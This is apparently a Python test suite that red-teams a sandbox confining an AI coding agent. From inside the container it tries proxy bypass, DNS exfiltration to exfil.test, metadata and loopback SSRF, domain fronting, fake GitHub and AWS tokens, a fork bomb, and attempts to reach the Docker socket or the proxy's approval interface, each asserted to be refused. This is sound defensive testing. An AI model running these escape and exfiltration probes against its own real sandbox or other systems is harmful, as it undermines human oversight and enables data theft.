"""The red team: attacks from inside a started bottle, against lab hosts only,
under runc and under gVisor, on both topologies: the lab network named by
`egress.network`, and the default one every user's bottle has (the shared
egress network, which the lab's servers join under the same names).

No case can pass by accident:
- `attack` fails the test unless the bottle started and the attack script ran
  to its end (exit status 0 and a `ran-<mark>` line printed from inside);
- each refused attempt has a positive control beside it: the same client
  reaching an allowed target by the same path, or a lab container (outside any
  bottle) showing that the target answers and logs what reaches it;
- failures are asserted by kind (a proxy's 403, "could not connect"), so a
  timeout is a failure of the test, not a success of the wall."""

from __future__ import annotations

import ipaddress
import os
import re
import secrets
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from claude_bottle.engine.docker import DockerEngine
from claude_bottle.proxies import backend_for
from claude_bottle.tracking import labels
from tests.conftest import wait_for
from tests.engine.conftest import cli
from tests.installed import cli_argv
from tests.sidecar.conftest import (
    ATTACKER_IMAGE,
    LAB_LABEL,
    PROXY,
    TOPOLOGIES,
    Lab,
    PublicLab,
    Site,
    public_project,
    site_project,
)

# (agent, topology): every case on both topologies; gVisor on the lab's. The
# runc cases run against the remote engine too (scripts/test.sh); gVisor's do
# not: that engine (scripts/setup/remote-engine.sh) has runc alone.
REMOTE = pytest.mark.remote_engine
CASES = [
    pytest.param(("attacker", "lab"), id="runc-lab", marks=REMOTE),
    pytest.param(("attacker-gvisor", "lab"), id="runsc-lab"),
    pytest.param(("attacker", "default"), id="runc-default", marks=REMOTE),
]
# Every request below names its proxy explicitly and ignores NO_PROXY, so
# nothing takes the agent's loopback shortcut when the proxy is under test.
VIA = "--noproxy '' -x \"$HTTPS_PROXY\""
DIRECT = "--noproxy '*'"
CURL_COULD_NOT_CONNECT = 7
# A refused tunnel, as curl -k reports it (HTTP status/CONNECT status/exit). The
# SNI check is on by default, so Squid answers a refused CONNECT itself: it
# accepts it, terminates the client's TLS with its throwaway certificate (which
# -k accepts) and sends its 403 page. Nothing reaches the origin either way.
REFUSED_TUNNEL = "403/200/0" if PROXY == "squid" else "000/403/56"


@dataclass(frozen=True)
class Attack:
    stdout: str
    stderr: str

    def value(self, name: str) -> str:
        found: list[str] = re.findall(rf"^{re.escape(name)}=(\S*)$", self.stdout, re.MULTILINE)
        assert len(found) == 1, f"{name}= printed {len(found)} times in:\n{self.stdout}"
        return found[0]


def attack(project: Path, agent: str, script: str, **env: str) -> Attack:
    mark = secrets.token_hex(6)
    r = cli("run", agent, "--", "sh", "-c", f"echo ran-{mark}; {script}\necho done-{mark}", cwd=project,
            env={"CLAUDE_BOTTLE_IMAGE": ATTACKER_IMAGE, **env}, timeout=180)  # fmt: skip
    assert r.returncode == 0, f"the bottle did not run the attack:\n{r.stderr}"
    assert f"ran-{mark}\n" in r.stdout, r.stdout
    assert f"done-{mark}\n" in r.stdout, r.stdout
    return Attack(r.stdout, r.stderr)


def canary() -> str:
    return f"c{secrets.token_hex(6)}"


def curl(name: str, url: str, *flags: str) -> str:
    """A curl whose HTTP status, CONNECT status and exit status are printed as
    `name=<http>/<connect>/<exit>` (000 when there was none)."""
    status = f"{name}=%{{http_code}}/%{{http_connect}}"
    return f'curl -s -m 8 -o /dev/null -w \'{status}\' {" ".join(flags)} "{url}"; echo "/$?"'


@dataclass(frozen=True)
class Bottle:
    """Where an attack runs: the project (its manifest), the agent, and the site
    its sidecar leaves through."""

    project: Path
    agent: str
    site: Site


def _site(request: pytest.FixtureRequest, topology: str) -> Site:
    return request.getfixturevalue(f"{topology}_site")  # type: ignore[no-any-return]


@pytest.fixture(params=CASES)
def bottle(
    request: pytest.FixtureRequest, sidecar_image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Bottle:
    agent, topology = request.param
    site = _site(request, topology)
    return Bottle(site_project(site, sidecar_image, tmp_path, monkeypatch), agent, site)


@pytest.fixture(params=[pytest.param(t, id=t, marks=REMOTE) for t in TOPOLOGIES])
def runc_bottle(
    request: pytest.FixtureRequest, sidecar_image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Bottle:
    """The runc attacker on either topology (cases gVisor cannot hold, or that need no second runtime)."""
    site = _site(request, request.param)
    return Bottle(site_project(site, sidecar_image, tmp_path, monkeypatch), "attacker", site)


def test_direct_ip_with_the_proxy_ignored(bottle: Bottle, lab: Lab) -> None:
    c = canary()
    direct = f"http://{bottle.site.web_ip}/{c}"
    a = attack(bottle.project, bottle.agent, "; ".join([
        curl("direct", direct, DIRECT),
        "P=$HTTPS_PROXY; unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy",
        curl("unset", direct),
        curl("control", "http://allowed.test/control", VIA.replace("$HTTPS_PROXY", "$P")),
    ]))  # fmt: skip
    assert a.value("direct") == f"000/000/{CURL_COULD_NOT_CONNECT}"
    assert a.value("unset") == f"000/000/{CURL_COULD_NOT_CONNECT}"
    assert a.value("control") == "200/000/0"
    # The address is right: from the site's network it answers, and logs what reaches it.
    bottle.site.control(f"curl -s http://{bottle.site.web_ip}/control-{c}")
    assert lab.web_sees(f"/control-{c}")
    assert not lab.web_saw(f"/{c}")


def test_direct_tcp_and_udp(bottle: Bottle, lab: Lab) -> None:
    c, ip = canary(), bottle.site.web_ip
    a = attack(bottle.project, bottle.agent,
               f"printf 'tcp-{c}' | nc -w 2 {ip} 9000; echo tcp=$?; "
               f"python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
               f"try:\n  s.sendto(b'udp-{c}', ('{ip}', 5353)); print('udp=sent')\n"
               f"except OSError as e:\n  print('udp=' + str(e.errno))\"")  # fmt: skip
    assert a.value("tcp") != "0"
    assert a.value("udp") in ("sent", "101")  # into the void, or refused at once; never to the lab
    # Control, after the attack: the listeners log what reaches them.
    udp = f"socket.socket(2, 2).sendto(b'udp-ctl-{c}', ('{ip}', 5353))"
    bottle.site.control(f"printf 'tcp-ctl-{c}' | nc -w 1 {ip} 9000; python3 -c \"import socket; {udp}\"")
    wait_for(lambda: lab.web_saw(f"udp-ctl-{c}") and lab.web_saw(f"tcp-ctl-{c}"), 10, "the control's packets")
    assert not lab.web_saw(f"tcp-{c}")
    assert not lab.web_saw(f"udp-{c}")


ICMP_ECHO = (
    "import socket, sys\n"
    "try:\n"
    "  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(3)\n"
    "  s.sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]) + b'probe', (sys.argv[1], 0))\n"
    "  s.recv(64); print('icmp=reply')\n"
    "except OSError as e:\n"
    "  print('icmp=' + (str(e.errno) if e.errno else 'timeout'))\n"
)


def test_icmp(bottle: Bottle, lab: Lab) -> None:
    # An unprivileged ICMP socket (what ping uses without capabilities), so the
    # case tests the network, not the privilege the agent lacks.
    a = attack(bottle.project, bottle.agent, f'python3 -c "{ICMP_ECHO}" {bottle.site.web_ip}')
    # No reply (runc: into the void); no ICMP sockets at all (gVisor: 97).
    assert a.value("icmp") in ("timeout", "97", "101", "113")
    assert "icmp=reply" in bottle.site.control(f'python3 -c "{ICMP_ECHO}" {bottle.site.web_ip}')


def test_privileges_are_gone_for_every_process(bottle: Bottle, lab: Lab) -> None:
    a = attack(bottle.project, bottle.agent,
               "grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\\t' "
               "| sed 's/:/=/'; ip route add 10.99.0.0/16 dev lo 2>/dev/null; echo addroute=$?")  # fmt: skip
    assert a.value("CapEff") == "0000000000000000"
    assert a.value("CapPrm") == "0000000000000000"
    # The bounding set is what shows --cap-drop ALL: nothing, even setuid root, can gain a capability.
    assert a.value("CapBnd") == "0000000000000000"
    assert a.value("addroute") != "0"
    if bottle.agent == "attacker":
        # gVisor's /proc reports neither field (a known limit, in the README).
        assert a.value("NoNewPrivs") == "1"
        assert a.value("Seccomp") == "2"


def test_dns_to_a_lab_server_by_address(bottle: Bottle, lab: Lab) -> None:
    c, dns = canary(), bottle.site.dns_ip
    a = attack(
        bottle.project,
        bottle.agent,
        f"dig @{dns} +time=2 +tries=1 {c}.exfil.test >/dev/null 2>&1; echo dig=$?",
    )
    assert a.value("dig") != "0"
    bottle.site.control(f"dig @{dns} +time=2 +tries=1 ctl-{c}.exfil.test >/dev/null; true")
    assert f"ctl-{c}.exfil.test" in lab.dns_queries()
    assert f"{c}.exfil.test" not in lab.dns_queries()


def test_no_ipv6(bottle: Bottle, lab: Lab) -> None:
    a = attack(bottle.project, bottle.agent,
               "python3 -c \"import socket\ntry:\n  s=socket.socket(socket.AF_INET6); s.settimeout(3); "
               "s.connect(('fd00::1', 80)); print('v6=connected')\n"
               "except OSError as e:\n  print('v6=' + str(e.errno))\"; "
               "echo global=$(cat /proc/net/if_inet6 2>/dev/null | grep -vc -e ' lo$')")  # fmt: skip
    # No address to send from, no route, or no IPv6 at all: never a timeout.
    assert a.value("v6") in ("99", "101", "97")
    assert a.value("global") == "0"


def gateway_of(engine: DockerEngine, network: str) -> str:
    """The gateway a network's containers would route through: the engine's record,
    or (a network made with a subnet of its own records none) its first address."""
    (config,) = engine.json("network", "inspect", network)[0]["IPAM"]["Config"][:1]
    return str(config.get("Gateway") or ipaddress.ip_network(config["Subnet"]).network_address + 1)


def test_no_docker_socket_and_no_way_to_the_host(
    engine: DockerEngine, bottle: Bottle, lab: Lab, host_listener: tuple[int, Callable[[], list[str]]]
) -> None:
    port, seen = host_listener
    c = canary()
    # The real gateways: of the bottle's own internal network (read from inside, where
    # the agent finds it) and of the network its sidecar leaves through.
    egress_gateway = gateway_of(engine, bottle.site.network)
    a = attack(bottle.project, bottle.agent,
               "test -e /var/run/docker.sock; echo sock=$?; "
               "gw=$(python3 -c \"import ipaddress, subprocess as p; "
               "a = p.run(['ip', '-4', '-o', 'addr', 'show', 'eth0'], capture_output=True, text=True)"
               ".stdout.split()[3]; print(ipaddress.ip_interface(a).network.network_address + 1)\"); "
               "echo gw=$gw; "
               f"{curl('daemon', 'http://$gw:2375/', DIRECT)}; "
               f"{curl('internal', f'http://$gw:{port}/{c}-internal', DIRECT)}; "
               f"{curl('egress', f'http://{egress_gateway}:{port}/{c}-egress', DIRECT)}; "
               f"{curl('proxied', f'http://{egress_gateway}:{port}/{c}-proxied', VIA)}")  # fmt: skip
    assert a.value("sock") == "1"
    assert ipaddress.ip_address(a.value("gw"))
    assert a.value("daemon").endswith(f"/{CURL_COULD_NOT_CONNECT}")
    assert a.value("internal").endswith(f"/{CURL_COULD_NOT_CONNECT}")
    assert a.value("egress").endswith(f"/{CURL_COULD_NOT_CONNECT}")
    assert a.value("proxied").startswith("403/")  # an address is never an allowed host
    # The control: the listener answers a plain container through its network's gateway.
    bottle.site.control(f"curl -s -m 5 http://{egress_gateway}:{port}/{c}-control")
    wait_for(lambda: f"/{c}-control" in seen(), 30, "the control in the listener's log")
    assert seen() == [f"/{c}-control"]


def test_metadata_address_directly_and_through_the_proxy(bottle: Bottle, lab: Lab) -> None:
    a = attack(bottle.project, bottle.agent,
               f"{curl('direct', 'http://169.254.169.254/', DIRECT)}; "
               f"{curl('proxied', 'http://169.254.169.254/latest/meta-data/', VIA)}; "
               f"{curl('control', 'http://allowed.test/', VIA)}")  # fmt: skip
    assert a.value("direct") == f"000/000/{CURL_COULD_NOT_CONNECT}"
    assert a.value("proxied") == "403/000/0"
    assert a.value("control") == "200/000/0"


@pytest.mark.parametrize("url", [
    "http://127.0.0.1:9464/metrics", "http://2130706433:9464/", "http://0x7f000001:9464/",
    "http://[::ffff:127.0.0.1]:9464/", "http://localhost/", "http://10.0.0.1/", "http://[::1]/",
    "http://private.lab.test/", "https://private.lab.test/",
])  # fmt: skip
def test_loopback_and_private_addresses_through_the_proxy(runc_bottle: Bottle, lab: Lab, url: str) -> None:
    c = canary()
    a = attack(
        runc_bottle.project,
        runc_bottle.agent,
        f"{curl('attempt', url + c, VIA, '-k')}; {curl('control', 'http://allowed.test/', VIA)}",
    )
    status = a.value("attempt")
    assert status in ("403/000/0", REFUSED_TUNNEL), status  # refused by the proxy: plain 403, or the tunnel's
    assert a.value("control") == "200/000/0"
    assert not lab.web_saw(c)


def test_ports_other_than_443_80_and_ssh(bottle: Bottle, lab: Lab) -> None:
    c = canary()
    a = attack(bottle.project, bottle.agent,
               f"{curl('tls8443', f'https://allowed.test:8443/{c}', VIA, '-k')}; "
               f"{curl('http8080', f'http://allowed.test:8080/{c}', VIA)}; "
               f"{curl('connect80', f'http://allowed.test/tunnel-{c}', VIA, '--proxytunnel')}; "
               f"{curl('connect22', f'https://allowed.test:22/{c}', VIA, '-k')}; "
               f"{curl('tls', f'https://allowed.test/ctl-{c}', VIA, '-k')}; "
               f"{curl('http', f'http://allowed.test/ctl-{c}', VIA)}")  # fmt: skip
    # Squid refuses the request (a plain 403; a tunnel's 403 comes in its own TLS, see
    # REFUSED_TUNNEL). Pipelock lets it through and the floor refuses the connection it
    # opens, which Pipelock answers as any failed dial (502).
    assert a.value("tls8443") == (REFUSED_TUNNEL if PROXY == "squid" else "000/502/56")
    assert a.value("http8080") == ("403/000/0" if PROXY == "squid" else "502/000/0")
    # Plain HTTP only as ordinary proxied requests, which the proxy inspects.
    assert (a.value("connect80") == "200/200/0") == (PROXY == "pipelock"), a.value("connect80")
    assert lab.web_sees(f"/tunnel-{c}") == (PROXY == "pipelock")  # a stated limit of Pipelock's
    # 22 is no ssh port of this agent's (it has no ssh entry): no tunnel to it either.
    assert not a.value("connect22").startswith("200/"), a.value("connect22")
    assert a.value("tls") == "200/200/0"
    assert a.value("http") == "200/000/0"
    assert not lab.web_saw(f"/{c}")
    assert lab.web_sees(f"/ctl-{c}")
    # Either way the summary says why, in the same words.
    assert "          allowed.test:8443: port_not_allowed (" in a.stderr
    assert "          allowed.test:8080: port_not_allowed (" in a.stderr


@pytest.mark.parametrize("host", ["evilallowed.test", "allowed.test.evil.test", "blocked.test", "EVIL.TEST."])
def test_look_alike_names_are_refused(runc_bottle: Bottle, lab: Lab, host: str) -> None:
    c = canary()
    a = attack(runc_bottle.project, runc_bottle.agent,
               f"{curl('tls', f'https://{host}/{c}', VIA, '-k')}; "
               f"{curl('userinfo', f'http://allowed.test@{host}/{c}', VIA)}; "
               f"{curl('control', f'https://allowed.test/ctl-{c}', VIA, '-k')}")  # fmt: skip
    assert a.value("tls") == REFUSED_TUNNEL
    assert a.value("userinfo") == "403/000/0"
    assert a.value("control") == "200/200/0"
    assert lab.web_sees(f"/ctl-{c}")
    assert not lab.web_saw(f"/{c}")


def test_an_address_whose_reverse_name_is_allowed_is_refused(bottle: Bottle, lab: Lab) -> None:
    # Docker's DNS gives the lab web server's address a reverse name; whatever
    # it is, an address is never matched against the allowlist by that name.
    c, ip = canary(), bottle.site.web_ip
    a = attack(
        bottle.project,
        bottle.agent,
        f"{curl('tls', f'https://{ip}/{c}', VIA, '-k')}; {curl('http', f'http://{ip}/{c}', VIA)}; "
        f"{curl('control', f'http://allowed.test/ctl-{c}', VIA)}",
    )
    assert a.value("tls") == REFUSED_TUNNEL
    assert a.value("http") == "403/000/0"
    assert a.value("control") == "200/000/0"
    assert not lab.web_saw(f"/{c}")


def test_the_allowed_name_in_other_spellings_still_means_only_that_host(
    runc_bottle: Bottle, lab: Lab
) -> None:
    a = attack(runc_bottle.project, runc_bottle.agent, f"curl -sk -m 8 {VIA} https://ALLOWED.TEST./x; echo")
    assert "hello from allowed.test. over https\n" in a.stdout.lower()


def test_a_redirect_from_an_allowed_host_to_a_blocked_one(bottle: Bottle, lab: Lab) -> None:
    c = canary()
    redirect = "https://allowed.test/redirect?to="
    a = attack(bottle.project, bottle.agent, "; ".join([
        curl("attempt", f"{redirect}https://blocked.test/{c}", VIA, "-kL"),
        curl("control", f"{redirect}https://allowed.test/ctl-{c}", VIA, "-kL"),
    ]))  # fmt: skip
    # The redirect is followed, and the second tunnel refused (Squid: its 403 page in its
    # own TLS, or no tunnel; Pipelock: a 403 to the CONNECT).
    assert a.value("attempt") in ("403/200/0", "000/200/56", "000/403/56"), a.value("attempt")
    assert a.value("control") == "200/200/0"
    assert lab.web_sees(f"/ctl-{c}")
    # (The canary is in the first request's query, so it is looked for as a host.)
    assert not any(str(e.get("host", "")).startswith("blocked.test") for e in lab.web_log())


def test_a_secret_shaped_canary_in_plain_http_is_refused(bottle: Bottle, lab: Lab) -> None:
    token = "ghp_" + secrets.token_hex(18)  # the shape of a GitHub token
    aws = "AKIA" + secrets.token_hex(8).upper()
    a = attack(bottle.project, bottle.agent, "; ".join([
        curl("url", f"http://allowed.test/?t={token}", VIA),
        curl("aws", f"http://allowed.test/{aws}", VIA),
        curl("header", "http://allowed.test/", VIA, f"-H 'Authorization: Bearer {token}'"),
        curl("control", "http://allowed.test/?t=not-a-secret", VIA, "-H 'Authorization: Bearer x'"),
    ]))  # fmt: skip
    assert a.value("url") == "403/000/0"
    assert a.value("aws") == "403/000/0"
    assert a.value("header") == "403/000/0"
    assert a.value("control") == "200/000/0"
    assert not lab.web_saw(token)
    assert not lab.web_saw(aws)
    assert "secret_in_request" in a.stderr


def test_a_second_bottle_cannot_be_reached(engine: DockerEngine, runc_bottle: Bottle, lab: Lab) -> None:
    c = canary()
    # The holder's agent serves a port of its own, so that every probe has a listener.
    serve = "python3 -m http.server 8000 >/dev/null 2>&1 & sleep 1; echo up; sleep 60"
    holder = subprocess.Popen(
        cli_argv("run", "worker", "--", "sh", "-c", serve),
        cwd=runc_bottle.project, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout is not None
        assert holder.stdout.readline() == "up\n"  # its session has started
        owned = f"label={labels.OWNER_PID}={holder.pid}"
        agent, sidecar = (
            engine.lines(
                "ps", "--filter", owned, "--filter", f"label={labels.ROLE}={role}", "--format", "{{.Names}}"
            )[0]
            for role in (labels.ROLE_AGENT, labels.ROLE_SIDECAR)
        )
        fmt = "{{range $n, $c := .NetworkSettings.Networks}}{{$n}}={{$c.IPAddress}} {{end}}"
        nets = dict(pair.split("=") for pair in engine.run("inspect", "-f", fmt, agent).stdout.split())
        ((internal, agent_ip),) = nets.items()
        sidecar_ip = engine.address_of(sidecar, internal)
        # By address only: a name the bottle's DNS does not know would be asked
        # upstream by old engines (CVE-2024-29018), and tests send nothing out.
        targets = {"agent": f"{agent_ip}:8000", "sidecar": f"{sidecar_ip}:{backend_for(PROXY).port}"}
        probes = [curl(f"direct_{w}", f"http://{t}/{c}", DIRECT) for w, t in targets.items()]
        probes += [curl(f"proxied_{w}", f"https://{t}/{c}", VIA, "-k") for w, t in targets.items()]
        a = attack(runc_bottle.project, runc_bottle.agent, "; ".join(probes))
        for what in targets:
            assert a.value(f"direct_{what}").endswith(f"/{CURL_COULD_NOT_CONNECT}"), what
            assert a.value(f"proxied_{what}") == REFUSED_TUNNEL, what
        # The control: both answer a container on the holder's own network.
        answers = engine.run(
            "run", "--rm", "--label", f"{LAB_LABEL}=1", "--network", internal, ATTACKER_IMAGE, "sh", "-c",
            " ; ".join(f"curl -s -o /dev/null -w '{w}=%{{http_code}}\\n' -m 5 --noproxy '*' http://{t}/"
                       for w, t in targets.items()) + "; true",
        ).stdout  # fmt: skip
        assert "agent=200" in answers, answers
        assert re.search(r"^sidecar=[1-5]\d\d$", answers, re.M), answers  # the proxy answers (it asks a URL)
    finally:
        holder.terminate()
        holder.communicate(timeout=60)


def test_the_proxy_admin_interface(bottle: Bottle, lab: Lab) -> None:
    if PROXY == "squid":
        paths = ["squid-internal-mgr/menu", "squid-internal-mgr/info", "squid-internal-static/icons/x"]
    else:
        paths = ["metrics", "stats", "api/v1/killswitch", "api/v1/killswitch/status", "api/v1/sessions"]
    script = "; ".join(curl(f"p{i}", f"$HTTPS_PROXY/{p}", DIRECT, "-X POST") for i, p in enumerate(paths))
    script += "; " + curl("manager", "cache_object://egress-proxy/info", VIA)
    a = attack(bottle.project, bottle.agent, f"{script}; {curl('control', 'http://allowed.test/', VIA)}")
    for i in range(len(paths)):
        assert not a.value(f"p{i}").startswith("200"), paths[i]
    assert not a.value("manager").startswith("200")
    assert a.value("control").startswith("200")


def test_a_memory_balloon_is_contained(runc_bottle: Bottle, lab: Lab) -> None:
    # runc only: under the gVisor release in Debian 12 the balloon takes the whole
    # sandbox down and the engine's removal of it can hang (a known limit, in the README).
    balloon = "node -e 'const a=[]; for(;;) a.push(Buffer.alloc(1e7, 1))'"
    a = attack(
        runc_bottle.project, runc_bottle.agent, f"timeout 30 {balloon} >/dev/null 2>&1; echo balloon=$?"
    )
    assert a.value("balloon") == "137"  # the kernel killed the balloon, the bottle lives on


def test_a_fork_bomb_is_contained_by_the_pid_limit(runc_bottle: Bottle, lab: Lab) -> None:
    # runc only: under gVisor the engine's PID limit does not count the agent's
    # processes (a known limit, in the README).
    a = attack(runc_bottle.project, runc_bottle.agent,
               # Read the limit first: once the bomb has used it up, nothing else can start.
               "echo pids=$(cat /sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max 2>/dev/null); "
               "timeout 10 sh -c 'f() { f | f & }; f' >/dev/null 2>&1; echo alive=yes")  # fmt: skip
    assert a.value("pids") == "128"
    assert a.value("alive") == "yes"


def test_tls_whose_sni_differs_from_the_connect_host(bottle: Bottle, lab: Lab) -> None:
    """Domain fronting, against a bottle whose manifest says nothing of SNI: the
    check is on by default (and on Pipelock always)."""
    c = canary()
    fronting = "--connect-to blocked.test:443:allowed.test:443"
    a = attack(bottle.project, bottle.agent, "; ".join([
        curl("fronted", f"https://blocked.test/{c}", VIA, "-k", fronting),
        curl("control", f"https://allowed.test/ctl-{c}", VIA, "-k"),
    ]))  # fmt: skip
    assert not a.value("fronted").startswith("200/200")
    assert a.value("control") == "200/200/0"
    assert lab.web_sees(f"/ctl-{c}")
    assert not lab.web_saw(f"/{c}")
    assert "sni_not_allowed" in a.stderr


def test_a_tunnel_open_at_the_end_is_in_the_summary(runc_bottle: Bottle, lab: Lab) -> None:
    # The client speaks first, as an ssh client does (Pipelock reads a tunnel's first
    # bytes before it relays anything); the server's banner coming back shows the
    # tunnel open end to end before the session ends, with the tunnel still open.
    # It goes the way the agent's ssh config sends ssh: its ProxyCommand's proxy.
    a = attack(runc_bottle.project, "gitter",
               "via=$(awk '/ProxyCommand/ {print $6; exit}' ~/.ssh/config); "
               "((printf 'SSH-2.0-probe\\r\\n'; sleep 60) | nc -X connect -x $via "
               "git.allowed.test 22 >/tmp/banner 2>/dev/null &); "
               "for i in $(seq 100); do grep -q '^SSH-2.0-' /tmp/banner && break; sleep 0.1; done; "
               "echo opened=$(head -c 8 /tmp/banner)")  # fmt: skip
    assert a.value("opened") == "SSH-2.0-"
    assert re.search(r"allowed : .*git\.allowed\.test:22", a.stderr), a.stderr


@REMOTE
def test_the_agent_cannot_reach_the_approval_path(
    public_lab: PublicLab, sidecar_image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A live approval (`claude-bottle allow`) reaches the sidecar through the engine
    alone. From inside a running bottle, every other way is tried: the engine (its
    socket, a cluster's API), the proxy's own interface (Squid's cache manager can
    reconfigure; Pipelock's API), its process (a signal), its configuration file,
    and the session's record on the host. None approves the host; the same
    approval from outside does, at once."""
    agent = f"attacker-{secrets.token_hex(3)}"
    project = public_project(public_lab, sidecar_image, tmp_path, monkeypatch, agent)
    monkeypatch.setenv("CLAUDE_BOTTLE_IMAGE", ATTACKER_IMAGE)  # the agent brings ps, python3 and the rest
    c = canary()
    record = Path(os.environ["XDG_DATA_HOME"]) / "claude-bottle" / "sessions"
    if PROXY == "squid":
        admin = ["squid-internal-mgr/reconfigure", "squid-internal-mgr/config"]
    else:
        admin = ["api/v1/killswitch", "api/v1/config", "api/v1/reload", "reload"]
    tries = "; ".join(
        [
            "for f in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/squid "
            "/etc/claude-bottle /etc/squid; do test -e $f && echo found=$f; done; echo found=none",
            "echo k8s=${KUBERNETES_SERVICE_HOST:-none}",
            "command -v docker kubectl >/dev/null && echo tools=yes || echo tools=none",
            f"test -e {record} && echo record=yes || echo record=none",
            # The proxy's own interface, directly and through itself.
            *(curl(f"admin{i}", f"$HTTPS_PROXY/{path}", DIRECT, "-X POST") for i, path in enumerate(admin)),
            # Squid's cache manager by its own scheme (curl knows no cache_object:), as a raw request.
            "python3 -c \"import os, socket; h, p = os.environ['HTTPS_PROXY'].split('//')[1].rsplit(':', 1); "
            "s = socket.create_connection((h, int(p))); "
            "s.sendall(b'GET cache_object://egress-proxy/reconfigure HTTP/1.0\\r\\n\\r\\n'); "
            "print('manager=' + (s.recv(200).split(b' ') + [b'none', b'none'])[1].decode())\"",
            # Its process: not in the agent's namespace to signal.
            "echo procs=$(ps -eo comm= | grep -cE 'squid|pipelock')",
            "pkill -HUP squid; pkill -HUP pipelock; true",
            # Still refused, after all of it.
            curl("after", f"https://later.test/{c}-inside", VIA, "-k"),
        ]
    )
    argv = cli_argv("run", agent, "--", "sh", "-c", "echo ready; exec sleep 300")
    session = subprocess.Popen(argv, cwd=project, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert session.stdout is not None
        assert session.stdout.readline() == "ready\n"
        inside = cli("shell", agent, "--", "sh", "-c", f"{tries}; echo done-{c}", cwd=project)
        assert f"done-{c}\n" in inside.stdout, inside.stdout + inside.stderr
        a = Attack(inside.stdout, inside.stderr)
        assert re.findall(r"^found=(.*)$", a.stdout, re.MULTILINE) == ["none"]
        assert (a.value("k8s"), a.value("tools"), a.value("record"), a.value("procs")) == ("none",) * 3 + (
            "0",
        )
        for i in range(len(admin)):
            assert not a.value(f"admin{i}").startswith("200"), admin[i]
        assert a.value("manager") != "200"
        assert a.value("after") == ("403/200/0" if PROXY == "squid" else "000/403/56")
        assert not public_lab.web_saw(c)
        # The positive control: the approval path from outside, then the same request from inside.
        approved = cli("allow", agent, "later.test", cwd=project)
        assert approved.returncode == 0, approved.stderr
        probe = curl("control", f"https://later.test/{c}-control", VIA, "-k")
        control = cli("shell", agent, "--", "sh", "-c", probe, cwd=project)
        assert Attack(control.stdout, control.stderr).value("control") == "200/200/0"
        assert public_lab.web_saw(f"{c}-control")
        assert not public_lab.web_saw(f"{c}-inside")
    finally:
        session.terminate()
        session.communicate(timeout=60)
